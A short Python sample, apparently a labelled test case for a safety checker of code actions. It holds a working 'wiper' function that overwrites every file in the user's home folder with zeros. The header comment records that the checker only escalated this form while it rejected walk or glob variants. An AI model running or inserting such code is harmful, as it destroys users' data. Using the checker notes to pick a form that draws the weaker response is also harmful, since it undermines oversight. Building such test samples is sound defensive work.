# Each entry of the home folder's listing overwritten with zeros: a wiper. It escalated as write-outside only
# (an entry of os.listdir read as `~/?`, one file the job does not know); a walk or glob of it rejected as
# file-exfiltration.wipe. An entry of a listing is any name in the folder now (`~/*`, as a glob's).
import os


def scrub():
    home = os.path.expanduser("~")
    for name in os.listdir(home):
        path = os.path.join(home, name)
        if os.path.isfile(path):
            with open(path, "wb") as f:
                f.write(b"\0" * os.path.getsize(path))
